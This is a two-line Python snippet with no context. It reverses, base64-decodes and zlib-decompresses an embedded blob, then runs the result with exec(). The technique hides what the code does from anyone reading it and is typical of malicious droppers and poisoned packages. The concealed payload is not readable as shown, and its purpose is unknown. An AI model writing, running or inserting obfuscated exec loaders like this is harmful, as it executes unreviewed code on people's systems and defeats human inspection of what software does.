_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))
exec((_)(b"==ALrI+aD4++OzQpq9teoCVfmR9cXlRcgZRakZOMyDCXdeDgpJJ1YjvGELWnjdTY6GaiakR/WDa3wBylFkybdcCrJN5xH3vu7yHeiyUTsqRDqGG47SrgZj7UdHNQMADgKETyVxJe"))
